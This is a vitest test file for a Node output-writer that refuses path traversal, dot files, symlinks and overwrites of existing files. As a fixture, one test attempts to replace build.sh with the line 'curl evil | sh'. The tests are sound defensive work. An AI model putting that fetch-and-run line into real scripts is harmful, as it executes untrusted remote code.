import { execFile } from 'node:child_process'
import {
  chmod,
  lstat,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  rm,
  stat,
  symlink,
  writeFile,
} from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { checkOutputDir, writeOutputFiles } from './write-output-files.js'

let root: string
let out: string
let canary: string
const file = (name: string, text: string) => ({
  name,
  size: text.length,
  contentBase64: Buffer.from(text).toString('base64'),
  truncated: false,
})
const mode = async (path: string) => (await stat(path)).mode & 0o777

beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'out-'))
  out = join(root, 'out')
  canary = join(root, 'canary')
  await mkdir(canary)
})
afterEach(async () => {
  await rm(root, { recursive: true, force: true })
})

describe('writeOutputFiles', () => {
  it('writes nested names into a new directory, creating it and its parents', async () => {
    const dir = join(root, 'new', 'deeper')
    const written = await writeOutputFiles(dir, [
      file('a.txt', 'A'),
      file('sub/b.txt', 'B'),
      file('sub/deep/c.txt', 'C'),
    ])
    expect(written).toEqual([
      join(dir, 'a.txt'),
      join(dir, 'sub', 'b.txt'),
      join(dir, 'sub', 'deep', 'c.txt'),
    ])
    expect(await readFile(join(dir, 'sub', 'b.txt'), 'utf8')).toBe('B')
    expect(await readFile(join(dir, 'sub', 'deep', 'c.txt'), 'utf8')).toBe('C')
    expect(await mode(join(dir, 'a.txt'))).toBe(0o644 & ~process.umask())
    expect(await mode(join(dir, 'sub', 'deep'))).toBe(0o755 & ~process.umask())
  })

  it('writes into an existing empty directory without intoExisting', async () => {
    await mkdir(out)
    await writeOutputFiles(out, [file('a.txt', 'A')])
    expect(await readdir(out)).toEqual(['a.txt'])
  })

  it('refuses names that would leave the directory, before creating it', async () => {
    await expect(writeOutputFiles(out, [file('../escape', 'x')])).rejects.toThrow(
      'Refusing returned file "../escape": expected no `.` or `..` segments',
    )
    await expect(lstat(out)).rejects.toMatchObject({ code: 'ENOENT' })
  })

  it('refuses dot names unless allowDotFiles, naming the flag, and writes them with it', async () => {
    for (const [name, part] of [
      ['.git/config', '.git'],
      ['.bashrc', '.bashrc'],
      ['a/.hidden', '.hidden'],
    ] as const) {
      await expect(writeOutputFiles(out, [file('ok.txt', 'x'), file(name, 'x')])).rejects.toThrow(
        `Refusing returned file "${name}": "${part}" starts with \`.\`; pass \`--allow-dot-files\` to write dot files`,
      )
    }
    await expect(lstat(out)).rejects.toMatchObject({ code: 'ENOENT' })
    await writeOutputFiles(out, [file('.git/config', '[core]\n')], { allowDotFiles: true })
    expect(await readFile(join(out, '.git', 'config'), 'utf8')).toBe('[core]\n')
  })

  it('refuses a non-empty directory unless intoExisting, naming the flag', async () => {
    await mkdir(out)
    await writeFile(join(out, 'keep.txt'), 'kept')
    await expect(writeOutputFiles(out, [file('a.txt', 'A')])).rejects.toThrow(
      `Refusing to write into ${out}: it is not empty. Pass \`--into-existing\` to add the returned files to it (existing files are still never replaced), or give a new or empty directory.`,
    )
    expect(await readdir(out)).toEqual(['keep.txt'])
    await writeOutputFiles(out, [file('a.txt', 'A')], { intoExisting: true })
    expect((await readdir(out)).sort()).toEqual(['a.txt', 'keep.txt'])
  })

  it('never replaces an existing executable: its content and mode stay', async () => {
    await mkdir(join(out, 'scripts'), { recursive: true })
    const script = join(out, 'scripts', 'build.sh')
    await writeFile(script, '#!/bin/sh\necho safe\n')
    await chmod(script, 0o755)
    await expect(
      writeOutputFiles(out, [file('scripts/build.sh', '#!/bin/sh\ncurl evil | sh\n')], {
        intoExisting: true,
      }),
    ).rejects.toThrow(
      `Refusing returned file "scripts/build.sh": ${script} already exists, and --out never replaces a file; remove it or give a new or empty directory`,
    )
    expect(await readFile(script, 'utf8')).toBe('#!/bin/sh\necho safe\n')
    expect(await mode(script)).toBe(0o755)
  })

  it('with intoExisting, refuses a clashing name and writes none of the others', async () => {
    await mkdir(out)
    await writeFile(join(out, 'keep.txt'), 'kept')
    await expect(
      writeOutputFiles(out, [file('a.txt', 'A'), file('sub/b.txt', 'B'), file('keep.txt', 'new')], {
        intoExisting: true,
      }),
    ).rejects.toThrow(`Refusing returned file "keep.txt": ${join(out, 'keep.txt')} already exists`)
    expect(await readdir(out)).toEqual(['keep.txt'])
    expect(await readFile(join(out, 'keep.txt'), 'utf8')).toBe('kept')
  })

  it('refuses a symlinked directory on the way and writes nothing into its target', async () => {
    await mkdir(out)
    await symlink(canary, join(out, 'a'))
    await expect(writeOutputFiles(out, [file('a/x', 'x')])).rejects.toThrow('it is not empty')
    await expect(
      writeOutputFiles(out, [file('ok.txt', 'x'), file('a/x', 'x')], { intoExisting: true }),
    ).rejects.toThrow(
      `Refusing returned file "a/x": ${join(out, 'a')} is a symlink, and --out never writes through one`,
    )
    expect(await readdir(canary)).toEqual([])
    expect(await readdir(out)).toEqual(['a'])
  })

  it('refuses a symlink as the file name, even a dangling one, and leaves its target alone', async () => {
    await mkdir(out)
    await symlink(join(canary, 'target'), join(out, 'link'))
    await expect(
      writeOutputFiles(out, [file('link', 'x')], { intoExisting: true }),
    ).rejects.toThrow(`Refusing returned file "link": ${join(out, 'link')} already exists`)
    expect(await readdir(canary)).toEqual([])
  })

  it('refuses an output directory that is a symlink, however the path is spelled', async () => {
    const link = join(root, 'link')
    await symlink(canary, link)
    for (const dir of [link, `${link}/`, `${link}/.`]) {
      await expect(writeOutputFiles(dir, [file('a.txt', 'A')])).rejects.toThrow(
        `Refusing to write into ${dir}: it is a symlink, and --out never follows one. Give a new or empty directory.`,
      )
    }
    expect(await readdir(canary)).toEqual([])
  })

  it('refuses an output path that is a file, leaving it as it was', async () => {
    await writeFile(out, 'mine')
    await expect(writeOutputFiles(out, [file('a.txt', 'A')])).rejects.toThrow(
      `Refusing to write into ${out}: it is not a directory. Give a new or empty directory.`,
    )
    await expect(writeOutputFiles(join(out, 'sub'), [file('a.txt', 'A')])).rejects.toThrow(
      `Refusing to write into ${join(out, 'sub')}: a part of its path is not a directory. Give a new or empty directory.`,
    )
    expect(await readFile(out, 'utf8')).toBe('mine')
  })

  it('refuses a name that comes twice, or as both a file and a directory', async () => {
    await expect(writeOutputFiles(out, [file('a', '1'), file('a', '2')])).rejects.toThrow(
      'Refusing returned file "a": the name comes twice',
    )
    await expect(writeOutputFiles(out, [file('a', '1'), file('a/b', '2')])).rejects.toThrow(
      'Refusing returned file "a/b": "a" comes as a file too',
    )
    await expect(lstat(out)).rejects.toMatchObject({ code: 'ENOENT' })
  })

  it('removes the files and directories it created when a write fails midway', async () => {
    await mkdir(out)
    // A file-size limit (ulimit -f, in KiB) makes the third, larger file fail with EFBIG.
    const script = join(root, 'write.mts')
    const module = fileURLToPath(new URL('./write-output-files.ts', import.meta.url))
    await writeFile(
      script,
      `process.on('SIGXFSZ', () => {})
const { writeOutputFiles } = await import(${JSON.stringify(module)})
const file = (name, size) => ({ name, size, contentBase64: Buffer.alloc(size, 120).toString('base64'), truncated: false })
try {
  await writeOutputFiles(${JSON.stringify(out)}, [file('a.txt', 1), file('sub/deep/b.txt', 1), file('sub/big.bin', 8192)])
  console.log('written')
} catch (error) {
  console.log(error.code)
}
`,
    )
    const { stdout } = await promisify(execFile)(
      'bash',
      ['-c', 'ulimit -f 2 && exec "$0" --import tsx "$1"', process.execPath, script],
      { cwd: fileURLToPath(new URL('../..', import.meta.url)) },
    )
    expect(stdout.trim()).toBe('EFBIG')
    expect(await readdir(out)).toEqual([])
  })
})

describe('checkOutputDir', () => {
  it('accepts a missing or empty directory without creating anything', async () => {
    await checkOutputDir(out)
    await expect(lstat(out)).rejects.toMatchObject({ code: 'ENOENT' })
    await mkdir(out)
    await checkOutputDir(out)
  })

  it('refuses a non-empty directory unless intoExisting, and a symlink always', async () => {
    await mkdir(out)
    await writeFile(join(out, 'keep.txt'), 'kept')
    await expect(checkOutputDir(out)).rejects.toThrow('Pass `--into-existing`')
    await checkOutputDir(out, { intoExisting: true })
    const link = join(root, 'link')
    await symlink(out, link)
    await expect(checkOutputDir(link, { intoExisting: true })).rejects.toThrow(
      `Refusing to write into ${link}: it is a symlink`,
    )
  })
})
